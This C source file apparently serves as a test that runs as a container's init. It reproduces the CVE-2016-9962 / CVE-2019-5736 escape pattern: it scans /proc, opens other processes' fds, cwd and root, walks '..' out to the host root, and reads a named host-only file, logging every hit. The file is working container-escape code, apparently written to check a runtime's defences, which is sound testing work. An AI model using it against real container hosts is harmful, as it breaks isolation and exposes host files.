// The attack of CVE-2016-9962 / CVE-2019-5736 in its advisories' shape, run as a container's
// init: watch /proc for new processes and, for each one, try every fd, its cwd and its root as
// a way out: open it, walk ".." as far as it goes, and read the host-only file argv[1] names
// (a path relative to the host's root). Until /out/stop exists; then /out/walk lists
//   hit <comm> <what> <content> (pid <pid>, <link target>)   for every read that worked, and
//   a summary line scans=N procs=N opened=N      (processes seen, fds/cwds opened: the control that the
//                                  watcher reaches the processes at all).
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *secret;
static FILE *out;
static long opened;

static void comm_of(const char *pid, char *buf, size_t len) {
  char p[64];
  snprintf(p, sizeof p, "/proc/%s/comm", pid);
  buf[0] = 0;
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t n = read(fd, buf, len - 1);
  close(fd);
  buf[n > 0 ? n : 0] = 0;
  char *nl = strchr(buf, '\n');
  if (nl) *nl = 0;
}

// From the fd's directory (or the directory of the file it names) up to the top, then the secret.
static void walk(const char *pid, const char *link, const char *what) {
  char target[256];
  ssize_t tn = readlink(link, target, sizeof target - 1);
  target[tn > 0 ? tn : 0] = 0;
  char comm[32];
  comm_of(pid, comm, sizeof comm);
  int d = open(link, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (d < 0) d = open(link, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (d < 0) return;
  opened++;
  // The link's own readlink races the process it names (it can fail while that process is not
  // dumpable and the open after it succeed once the process has exec'd): name what was opened.
  char self[64];
  snprintf(self, sizeof self, "/proc/self/fd/%d", d);
  tn = readlink(self, target, sizeof target - 1);
  target[tn > 0 ? tn : 0] = 0;
  for (int i = 0; i < 64; i++) {
    int up = openat(d, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (up < 0) break;
    close(d);
    d = up;
  }
  int f = openat(d, secret, O_RDONLY | O_CLOEXEC);
  close(d);
  if (f < 0) return;
  char buf[128];
  ssize_t n = read(f, buf, sizeof buf - 1);
  close(f);
  buf[n > 0 ? n : 0] = 0;
  char *nl = strchr(buf, '\n');
  if (nl) *nl = 0;
  fprintf(out, "hit %s %s %s (pid %s, %s)\n", comm[0] ? comm : "?", what, buf, pid, target);
  fflush(out);
}

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  secret = argv[1];
  while (*secret == '/') secret++;
  out = fopen("/out/walk.tmp", "w");
  if (!out) return 1;
  char self[16];
  snprintf(self, sizeof self, "%d", getpid());
  FILE *ready = fopen("/out/watching", "w");
  if (ready) fclose(ready);
  long scans = 0, procs = 0;
  while (access("/out/stop", F_OK) != 0) {
    scans++;
    DIR *d = opendir("/proc");
    struct dirent *de;
    while (d && (de = readdir(d))) {
      const char *pid = de->d_name;
      if (pid[0] < '0' || pid[0] > '9' || strcmp(pid, self) == 0) continue;
      procs++;
      char p[300], l[600];
      snprintf(l, sizeof l, "/proc/%s/cwd", pid);
      walk(pid, l, "cwd");
      snprintf(l, sizeof l, "/proc/%s/root", pid);
      walk(pid, l, "root");
      snprintf(p, sizeof p, "/proc/%s/fd", pid);
      DIR *fdd = opendir(p);
      struct dirent *f;
      while (fdd && (f = readdir(fdd))) {
        if (f->d_name[0] == '.') continue;
        snprintf(l, sizeof l, "%s/%s", p, f->d_name);
        char what[64];
        snprintf(what, sizeof what, "fd%s", f->d_name);
        walk(pid, l, what);
      }
      if (fdd) closedir(fdd);
    }
    if (d) closedir(d);
  }
  fprintf(out, "scans=%ld procs=%ld opened=%ld\n", scans, procs, opened);
  fclose(out);
  rename("/out/walk.tmp", "/out/walk");
  return 0;
}
